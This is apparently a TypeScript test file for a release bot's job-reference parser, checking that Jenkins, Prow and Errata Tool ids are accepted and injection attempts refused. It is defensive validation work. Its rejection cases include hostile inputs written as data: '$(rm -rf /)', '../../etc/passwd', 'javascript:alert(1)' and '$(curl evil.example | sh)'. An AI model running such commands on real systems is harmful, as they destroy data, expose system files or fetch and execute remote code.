/**
 * `/release:record-job RELEASE TASK JOB` as the comment parser and src/core/job-ref.ts read it:
 * what a person may paste from Jenkins, Prow or the Errata Tool, and what never gets through
 * (shell metacharacters, paths, other schemes, foreign URLs, overlong text).
 */
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { MAX_JOB_CHARS, parseJobRef } from '../src/core/job-ref';
import { InputError } from '../src/core/errors';
import { FLOW_TASKS } from '../src/core/tasks';
import { COMMAND_USAGE, isCommandError, parseCommand } from '../src/triggers/commands';
import { notUnderstoodReply } from '../src/triggers/replies';

const UUID = '227f5f68-ae68-4038-b601-12b15816be62';
const STAGE_URL = 'https://jenkins-csb-openshift-qe-mastern.dno.corp.redhat.com/job/zstreams/job/Stage-Pipeline/1674/';

function error(body: string): string {
  const r = parseCommand(body);
  if (!isCommandError(r)) throw new Error(`expected an error for ${JSON.stringify(body)}, got ${JSON.stringify(r)}`);
  return r.error;
}

describe('parseJobRef: what each job task accepts', () => {
  it.each([
    ['stage-testing', '1674', { id: '1674' }],
    ['stage-testing', STAGE_URL, { id: '1674', url: STAGE_URL }],
    // Without the trailing slash, or a page of the build: kept as the build's own URL.
    ['stage-testing', 'https://jenkins.example/job/zstreams/job/Stage-Pipeline/1674', { id: '1674', url: 'https://jenkins.example/job/zstreams/job/Stage-Pipeline/1674/' }],
    ['stage-testing', 'https://jenkins.example/job/zstreams/job/Stage-Pipeline/1674/console', { id: '1674', url: 'https://jenkins.example/job/zstreams/job/Stage-Pipeline/1674/' }],
    ['stage-testing', 'https://jenkins.example:8443/job/Stage-Pipeline/9/display/redirect', { id: '9', url: 'https://jenkins.example:8443/job/Stage-Pipeline/9/' }],
    ['stage-testing', '  1674  ', { id: '1674' }],
    ['image-consistency-check', UUID, { id: UUID }],
    ['image-consistency-check', UUID.toUpperCase(), { id: UUID }],
    ['image-consistency-check', `https://prow.ci.openshift.org/prowjob?prowjob=${UUID}`, { id: UUID, url: `https://prow.ci.openshift.org/prowjob?prowjob=${UUID}` }],
    ['image-consistency-check', `https://gangway-ci.apps.ci.l2s4.p1.openshiftapps.com/v1/executions/${UUID}`, { id: UUID, url: `https://gangway-ci.apps.ci.l2s4.p1.openshiftapps.com/v1/executions/${UUID}` }],
    ['image-consistency-check', '3529', { id: '3529' }],
    ['image-consistency-check', 'https://jenkins.example/job/image-consistency-check/3529/', { id: '3529', url: 'https://jenkins.example/job/image-consistency-check/3529/' }],
    ['push-to-cdn-staging', '123456', { id: '123456' }],
    ['push-to-cdn-staging', 'https://errata.devel.redhat.com/push_results/123456', { id: '123456', url: 'https://errata.devel.redhat.com/push_results/123456' }],
    ['push-to-cdn-staging', 'https://errata.devel.redhat.com/push/push_results/123456', { id: '123456', url: 'https://errata.devel.redhat.com/push/push_results/123456' }],
  ] as const)('%s accepts %j', (task, text, expected) => {
    expect(parseJobRef(task, text)).toEqual(expected);
  });

  const STAGE_EXPECTED = 'give the Jenkins Stage-Pipeline build number (1674) or its https URL (https://jenkins.example.com/job/zstreams/job/Stage-Pipeline/1674/).';
  it.each([
    ['a shell command substitution', '$(rm -rf /)', `"$(rm -rf /)" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['backticks', '`id`', `"\`id\`" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['a pipe and a semicolon', '1674;reboot', `"1674;reboot" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['something that looks like an option', '-n', `"-n" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['a path out of the folder', '../../etc/passwd', `"../../etc/passwd" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['`..` in a URL', 'https://jenkins.example/job/../job/Stage-Pipeline/1674/', `"https://jenkins.example/job/../job/Stage-Pipeline/1674/" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['a percent-encoded `..`', 'https://jenkins.example/job/%2e%2e/job/Stage-Pipeline/1674/', `"https://jenkins.example/job/%2e%2e/job/Stage-Pipeline/1674/" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['plain http', 'http://jenkins.example/job/Stage-Pipeline/1674/', `"http://jenkins.example/job/Stage-Pipeline/1674/" is not a job of stage-testing: only https URLs are accepted; ${STAGE_EXPECTED}`],
    ['javascript:', 'javascript:alert(1)', `"javascript:alert(1)" is not a job of stage-testing: only https URLs are accepted; ${STAGE_EXPECTED}`],
    ['file:', 'file:///etc/passwd', `"file:///etc/passwd" is not a job of stage-testing: only https URLs are accepted; ${STAGE_EXPECTED}`],
    ['user info in the URL', 'https://x@jenkins.example/job/Stage-Pipeline/1674/', `"https://x@jenkins.example/job/Stage-Pipeline/1674/" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['an IP address', 'https://10.0.0.1/job/Stage-Pipeline/1674/', `"https://10.0.0.1/job/Stage-Pipeline/1674/" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['a query', 'https://jenkins.example/job/Stage-Pipeline/1674/?x=1', `"https://jenkins.example/job/Stage-Pipeline/1674/?x=1" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ["another Jenkins job's build", 'https://jenkins.example/job/image-consistency-check/3529/', `"https://jenkins.example/job/image-consistency-check/3529/" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['a Prow job id', UUID, `"${UUID}" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['a number with a leading zero', '01674', `"01674" is not a job of stage-testing: ${STAGE_EXPECTED}`],
    ['a number longer than any build number', '1234567890123', `"1234567890123" is not a job of stage-testing: ${STAGE_EXPECTED}`],
  ])('stage-testing refuses %s', (_what, text, message) => {
    expect(() => parseJobRef('stage-testing', text)).toThrow(InputError);
    expect(() => parseJobRef('stage-testing', text)).toThrow(message);
  });

  it('refuses a Prow build page for image-consistency-check, saying which id oar needs', () => {
    const page = 'https://prow.ci.openshift.org/view/gs/test-platform-results/logs/periodic-ci-openshift-release-tests-main-image-consistency-check/2047558723353710592';
    expect(() => parseJobRef('image-consistency-check', page)).toThrow(
      /^".{60}…" is a Prow build page, which names the build and not the Prow job that oar polls; give the Prow job id \(a UUID such as 227f5f68-ae68-4038-b601-12b15816be62, or the https URL of its prowjob\.yaml page\)/,
    );
  });

  it('refuses a push id URL of another path, and a Jenkins build number for nothing but digits', () => {
    expect(() => parseJobRef('push-to-cdn-staging', 'https://errata.devel.redhat.com/advisory/123456')).toThrow(
      '"https://errata.devel.redhat.com/advisory/123456" is not a job of push-to-cdn-staging: give the Errata Tool push job id (123456) or its https URL (https://errata.example.com/push_results/123456).',
    );
    expect(() => parseJobRef('push-to-cdn-staging', '123abc')).toThrow('is not a job of push-to-cdn-staging');
  });

  it('refuses empty and overlong text, and tasks that start no job', () => {
    expect(() => parseJobRef('stage-testing', '  ')).toThrow('The job of stage-testing is empty; give the Jenkins Stage-Pipeline build number');
    const long = `https://jenkins.example/${'job/a/'.repeat(60)}job/Stage-Pipeline/1/`;
    expect(long.length).toBeGreaterThan(MAX_JOB_CHARS);
    expect(() => parseJobRef('stage-testing', long)).toThrow(`The job of stage-testing is longer than ${MAX_JOB_CHARS} characters`);
    expect(() => parseJobRef('take-ownership', '1')).toThrow('take-ownership starts no job: only push-to-cdn-staging, image-consistency-check, stage-testing do.');
  });

  it('answers a hostile host quickly (no catastrophic backtracking)', () => {
    // A catastrophic regex would never finish: the test's own timeout catches it; no clock is read.
    for (const text of [`https://${'a-'.repeat(140)}`, `https://${'a.'.repeat(140)}/job/Stage-Pipeline/x`, `https://${'a'.repeat(62)}.`.repeat(4)]) {
      expect(() => parseJobRef('stage-testing', text)).toThrow(InputError);
    }
  });

  it('whatever it accepts is a plain id oar can take as an argument: digits or a UUID, never an option', () => {
    fc.assert(
      fc.property(fc.constantFrom('push-to-cdn-staging', 'image-consistency-check', 'stage-testing'), fc.string({ maxLength: 80 }), (task, text) => {
        let ref;
        try {
          ref = parseJobRef(task, text);
        } catch (err) {
          return err instanceof InputError;
        }
        return /^(?:[1-9]\d{0,11}|[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12})$/.test(ref.id) && (ref.url === undefined || ref.url.startsWith('https://'));
      }),
    );
  });
});

describe('parseCommand: /release:record-job', () => {
  it('parses the release, the task and the job as given (the driver reads it again)', () => {
    expect(parseCommand(`/release:record-job 4.20.1 stage-testing ${STAGE_URL}\nfound it in Jenkins`)).toEqual({
      kind: 'record-job',
      release: '4.20.1',
      task: 'stage-testing',
      job: STAGE_URL,
    });
    expect(parseCommand(`/release:record-job 4.20.1 image-consistency-check "${UUID}"`)).toEqual({ kind: 'record-job', release: '4.20.1', task: 'image-consistency-check', job: UUID });
    expect(parseCommand('/release:record-job 5.0.0-ec.3 push-to-cdn-staging 123456')).toEqual({ kind: 'record-job', release: '5.0.0-ec.3', task: 'push-to-cdn-staging', job: '123456' });
  });

  it.each([
    ['no task', '/release:record-job 4.20.1', `${COMMAND_USAGE['record-job']} needs a task, one of ${FLOW_TASKS.join(', ')}.`],
    ['no job', '/release:record-job 4.20.1 stage-testing', '/release:record-job RELEASE TASK JOB needs the job: its build number, id or URL as Jenkins, Prow or the Errata Tool shows it.'],
    ['a task that starts no job', '/release:record-job 4.20.1 image-signed-check 12', '/release:record-job RELEASE TASK JOB is for the tasks that start a job (push-to-cdn-staging, image-consistency-check, stage-testing); image-signed-check starts none.'],
    ['a task outside the flow', '/release:record-job 4.20.1 ../stage-testing 12', '"../stage-testing" is not a task of the release flow'],
    ['a bad release', '/release:record-job 4.20 stage-testing 12', '4.20'],
    ['a second job', '/release:record-job 4.20.1 stage-testing 1674 1675', '/release:record-job RELEASE TASK JOB takes no more arguments; got "1675".'],
    ['a shell substitution', '/release:record-job 4.20.1 stage-testing "$(curl evil.example | sh)"', '"$(curl evil.example | sh)" is not a job of stage-testing: give the Jenkins Stage-Pipeline build number'],
    ['a foreign scheme', '/release:record-job 4.20.1 stage-testing ftp://jenkins.example/job/Stage-Pipeline/1/', 'only https URLs are accepted'],
    ['an overlong job', `/release:record-job 4.20.1 stage-testing ${'9'.repeat(400)}`, `The job of stage-testing is longer than ${MAX_JOB_CHARS} characters`],
    ['a path', '/release:record-job 4.20.1 push-to-cdn-staging ../../_releases/4.20/statebox/4.20.1.yaml', 'is not a job of push-to-cdn-staging'],
  ])('refuses %s with a sentence', (_what, body, message) => {
    expect(error(body)).toContain(message);
  });

  it('is listed in the usage that answers a malformed command', () => {
    expect(notUnderstoodReply('alice', 'Oops.')).toContain('- `/release:record-job RELEASE TASK JOB`');
  });
});
